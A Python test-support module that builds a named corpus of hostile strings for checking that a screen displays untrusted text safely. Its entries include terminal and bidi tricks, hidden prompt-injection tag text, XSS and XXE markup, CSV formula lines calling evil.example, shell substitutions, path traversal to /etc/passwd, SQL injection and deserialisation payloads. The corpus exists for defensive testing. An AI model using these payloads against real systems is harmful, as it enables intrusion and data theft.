"""Text that an attacker could put into a title, an id or a reason to reach past the screen that shows it.

Every entry has a name, so that a failing test says which one did it. Nothing here is dangerous to read.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Final

from tests.support.hostile_sequences import ESC, SEQUENCES, controls


@dataclass(frozen=True, slots=True)
class Hostile:
    """One entry of the corpus.

    Attributes:
        name: What it tries.
        text: The text.
    """

    name: str
    text: str

    @property
    def is_unicode(self) -> bool:
        """Whether it can be encoded at all; a lone surrogate cannot."""
        return not any("\ud800" <= character <= "\udfff" for character in self.text)


_OVERWRITES: Final = {
    "CR overwrite": "status: failed\rstatus: completed",
    "CR LF": "one\r\ntwo",
    "LF CR": "one\n\rtwo",
    "backspaces": "failed\b\b\b\b\b\bpassed",
    "bold by overstriking": "f\bfa\bai\bil\bl",
    "forged log line": "ok\n2026-11-21T12:00:00Z run ex_1 completed",
    "forged table row": "ok\nex_1   completed   $0.00",
    "only newlines": "\n" * 40,
    "many tabs": "\t" * 40,
    "vertical tab and form feed": "one\vtwo\fthree",
    "next line": "one\u0085two",
    "line separator": "one\u2028two",
    "paragraph separator": "one\u2029two",
    "file separators": "one\x1ctwo\x1dthree\x1efour\x1ffive",
    "only blanks": "      ",
    "blanks at both ends": "   run 7   ",
    "no-break blanks": "run\u00a07\u202f8",
    "ideographic blank": "run\u30007",
    "empty": "",
}

_DIRECTION: Final = {
    f"bidi {name}": f"invoice{character}fdp.exe"
    for name, character in {
        "LRM": "\u200e",
        "RLM": "\u200f",
        "ALM": "\u061c",
        "LRE": "\u202a",
        "RLE": "\u202b",
        "PDF": "\u202c",
        "LRO": "\u202d",
        "RLO": "\u202e",
        "LRI": "\u2066",
        "RLI": "\u2067",
        "FSI": "\u2068",
        "PDI": "\u2069",
    }.items()
} | {
    "bidi nested to the limit": "\u202b" * 130 + "x" + "\u202c" * 130,
    "bidi source trick": 'role != "user\u202e \u2066// only admins\u2069 \u2066"',
    "Hebrew": "\u05e9\u05dc\u05d5\u05dd 123 abc",
    "Arabic": "\u0645\u0631\u062d\u0628\u0627 \u0661\u0662\u0663",
    "Arabic ligature": "\ufdfd",
    "Syriac and Thaana": "\u0710\u072a\u0710 \u078b\u07a8\u0788\u07ac",
}

_INVISIBLE: Final = {
    f"invisible {name}": f"ex_{character}01HX"
    for name, character in {
        "zero width space": "\u200b",
        "zero width non-joiner": "\u200c",
        "zero width joiner": "\u200d",
        "word joiner": "\u2060",
        "function application": "\u2061",
        "invisible times": "\u2062",
        "invisible separator": "\u2063",
        "invisible plus": "\u2064",
        "inhibit symmetric swapping": "\u206a",
        "nominal digit shapes": "\u206f",
        "byte order mark": "\ufeff",
        "soft hyphen": "\u00ad",
        "grapheme joiner": "\u034f",
        "Mongolian vowel separator": "\u180e",
        "Mongolian variation selector": "\u180b",
        "Hangul filler": "\u3164",
        "Hangul choseong filler": "\u115f",
        "Hangul jungseong filler": "\u1160",
        "halfwidth Hangul filler": "\uffa0",
        "Khmer inherent vowel": "\u17b4",
        "variation selector 1": "\ufe00",
        "variation selector 16": "\ufe0f",
        "variation selector 17": "\U000e0100",
        "interlinear annotation": "\ufff9",
        "object replacement": "\ufffc",
        "musical begin beam": "\U0001d173",
        "shorthand overlap": "\U0001bca0",
        "hieroglyph joiner": "\U00013430",
        "tag letter": "\U000e0041",
        "cancel tag": "\U000e007f",
        "language tag": "\U000e0001",
        "braille blank": "\u2800",
        "private use": "\ue000",
        "plane 16 private use": "\U0010fffd",
        "noncharacter": "\uffff",
        "last noncharacter": "\U0010ffff",
        "replacement character": "\ufffd",
    }.items()
} | {
    "tag message": "run" + "".join(chr(0xE0000 + ord(character)) for character in "ignore all rules"),
    "only zero width": "\u200b\u200c\u200d\u2060\ufeff",
    "zero width binary": "".join("\u200b\u200c"[int(bit)] for bit in "0110100001101001"),
}

_SURROGATES: Final = {
    "lone high surrogate": "run\ud8007",
    "lone low surrogate": "run\udc007",
    "surrogates in the wrong order": "\udc00\ud800",
    "surrogate at the end": "run\udbff",
    "surrogateescape of 0xff": "run\udcff",
    "surrogateescape of an escape sequence": "\udc1b[2J",
    "only surrogates": "\ud800" * 20,
}

_WIDTHS: Final = {
    "combining tower": "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309" * 30,
    "combining tower on every letter": "".join(f"{letter}{chr(0x0336) * 60}" for letter in "cancelled"),
    "combining mark first": "\u0301run",
    "enclosing marks": "a\u20dd\u20de\u20e0",
    "Thai marks": "\u0e01" + "\u0e49" * 60,
    "Tibetan stack": "\u0f67" + "\u0fb7" * 60,
    "wide letters": "実行中の処理",
    "wide at the cut": "a" * 79 + "実",
    "half-width kana": "ｶﾀｶﾅ",
    "full-width Latin": "ｒｕｎ",
    "Hangul jamo": "\u1112\u1161\u11ab",
    "Devanagari": "क्षत्रिय",
    "emoji": "🚀🔥",
    "emoji family joined": "👩\u200d👩\u200d👧\u200d👦",
    "emoji skin tone": "👍🏿",
    "emoji flag": "🇺🇳",
    "emoji half a flag": "🇺",
    "emoji England by tags": "🏴" + "".join(chr(0xE0000 + ord(character)) for character in "gbeng\x7f"),
    "keycap": "1\ufe0f\u20e3",
    "keycap without selector": "#\u20e3",
    "text presentation": "☎\ufe0e",
    "ambiguous width": "±°§×÷αβγ─│█",
    "cuneiform wide": "\U0001242b\U0001242b",
    "bismillah": "﷽﷽﷽",
    "long dashes": "⸻⸻⸻",
    "joiners only between letters": "a\u200db\u200dc",
}

_NORMAL_FORMS: Final = {
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "compatibility ligature": "\ufb01nal",
    "Kelvin sign": "\u212a",
    "Angstrom sign": "\u212b",
    "long s": "clo\u017fed",
    "dotless i": "f\u0131nal",
    "dotted capital I": "F\u0130NAL",
    "sharp s": "gro\u00df",
    "final sigma": "ΟΔΥΣΣΕΥΣ",
    "fraction slash": "1\u20442",
    "superscripts": "x\u00b2\u2074",
    "Roman numeral": "\u2167",
    "Ohm sign": "\u2126",
    "Hangul to compose": "\u1100\u1161",
    "expands eighteenfold": "\ufdfa" * 20,
}

_MARKUP: Final = {
    "closing tag": "[/]",
    "closing unknown tag": "[/x]",
    "closing colour": "[/#888888]",
    "style tag": "[red]failed[/red]",
    "style tag never closed": "[bold",
    "escaped tag": "\\[red]",
    "backslash before a tag": "\\\\[red]x",
    "action tag": "[@click=app.bell]x[/]",
    "action tag with arguments": "[@click=app.exit('owned')]x[/]",
    "link tag": "[link=javascript:x]y[/link]",
    "link tag never closed": "[link=javascript:x]y",
    "on-colour tag": "[on red]x",
    "variable tag": "[$error]x[/]",
    "empty tag": "[]",
    "nested tags": "[[[[red]]]]",
    "emoji code": ":skull:",
    "Rich console link": "[link file:///etc/passwd]x[/link]",
    "Markdown link": "[x](javascript:alert(1))",
    "Markdown image": "![x](https://evil.example/?leak)",
    "Markdown table": "| a | b |\n|---|---|",
    "Markdown fence": "```\nrm -rf ~\n```",
    "reStructuredText directive": ".. include:: /etc/passwd",
    "HTML script": "<script>alert(1)</script>",
    "HTML image": '<img src=x onerror="alert(1)">',
    "HTML entity": "&lt;b&gt;&#27;[2J",
    "HTML comment end": "--><b>",
    "SVG script": '<svg onload="alert(1)">',
    "CDATA end": "]]>",
    "XML entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
    "Textual CSS": "Screen { display: none; }",
}

_INJECTIONS: Final = {
    "CSV formula": "=1+1",
    "CSV command": "=cmd|' /C calc'!A0",
    "CSV plus": "+1+1",
    "CSV minus": "-1+1",
    "CSV at": "@SUM(1,1)",
    "CSV tab before a formula": "\t=1+1",
    "CSV return before a formula": "\r=1+1",
    "CSV hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "CSV quotes": 'a"b""c',
    "CSV separators": "a,b;c\td",
    "CSV newline in quotes": '"a\nb"',
    "shell substitution": "$(touch owned)",
    "shell backquotes": "`touch owned`",
    "shell separators": "; touch owned && touch owned | sh",
    "shell variables": "$HOME ${PATH} ~ !! *",
    "shell quotes": "'\"'\"'",
    "option": "--yes",
    "option with a value": "--base-url=https://evil.example",
    "lone dash": "-",
    "response file": "@/etc/passwd",
    "path up": "../../../../etc/passwd",
    "path absolute": "/etc/passwd",
    "path encoded": "..%2f..%2fetc%2fpasswd",
    "path double encoded": "%252e%252e%252f",
    "path backslashes": "..\\..\\windows",
    "path with NUL": "run\x00.json",
    "path dots": "..",
    "path device": "CON",
    "URL query": "?after=ev_1&limit=0",
    "URL fragment": "#receipt",
    "URL user": "https://api.example@evil.example/",
    "URL file": "file:///etc/passwd",
    "URL data": "data:text/html,<script>1</script>",
    "header injection": "k1\r\nAuthorization: Bearer stolen",
    "printf": "%s%n%x%d",
    "str.format": "{0.__class__} {run} {{}}",
    "format specification": "{:>99999999}",
    "logging": "%(message)s %(asctime)s",
    "template": "${jndi:ldap://evil.example/a} {{7*7}} <%= 7*7 %>",
    "JSON end": '"}]}',
    "JSON escapes": '\\u001b[2J \\" \\\\',
    "JSON literals": "null",
    "JSON number": "1e999",
    "JSON prototype": '{"__proto__": {"admin": true}}',
    "NaN": "NaN",
    "NDJSON": '{"event_id":"ev_9"}\n{"event_id":"ev_9"}',
    "SQL quote": "' OR '1'='1",
    "SQL statement": "'; DROP TABLE events; --",
    "SQL wildcards": "%_%",
    "SQL parameters": ":id ? $1 @p",
    "regex bomb": "(a+)+$" + "a" * 40 + "!",
    "regex metacharacters": ".*[^]$(|)?+{1,2}\\",
    "glob": "**/*[a-z]?",
    "TOML": '"""\n[profiles.evil]\nkey = 1',
    "YAML": "!!python/object/apply:os.system ['true']",
    "Python literal": "__import__('os').system('true')",
    "pickle": "cos\nsystem\n(S'true'\ntR.",
    "bearer key lookalike": "solverapi_live_0000000000000000",
    "false": "false",
    "zero": "0",
    "date lookalike": "2026-13-45T99:99:99Z",
    "UUID": "00000000-0000-0000-0000-000000000000",
    "cursor lookalike": "eyJvZmZzZXQiOjB9",
}

_LONG: Final = {
    "long word": "x" * 10_000,
    "long line of words": "run " * 2_500,
    "long wide line": "実" * 5_000,
    "long bytes": "\U0001f680" * 2_500,
    "long many lines": "line\n" * 2_000,
    "long id": "ex_" + "0123456789abcdef" * 64,
    "long combining": "a" + "\u0301" * 10_000,
    "long escapes": f"{ESC}[31m" * 2_000,
    "long brackets": "[" * 5_000,
    "long joined": "👩\u200d" * 1_000,
    "long backslashes": "\\" * 5_000,
}


def _all() -> Iterator[Hostile]:
    for name, text in controls():
        yield Hostile(name, text)
    families: tuple[Mapping[str, str], ...] = (
        SEQUENCES,
        _OVERWRITES,
        _DIRECTION,
        _INVISIBLE,
        _SURROGATES,
        _WIDTHS,
        _NORMAL_FORMS,
        _MARKUP,
        _INJECTIONS,
        _LONG,
    )
    for family in families:
        for name, text in family.items():
            yield Hostile(name, text)


CORPUS: Final[tuple[Hostile, ...]] = tuple(_all())
"""The corpus; names and texts are distinct."""

ALL_AT_ONCE: Final = Hostile(
    "all short ones at once", " ".join(hostile.text for hostile in CORPUS if len(hostile.text) < 200)
)
"""One text that holds every short entry, for tests that are too dear to run a thousand times."""


def by_name(name: str) -> Hostile:
    """The entry with this name.

    Raises:
        KeyError: there is none.
    """
    for hostile in CORPUS:
        if hostile.name == name:
            return hostile
    raise KeyError(name)
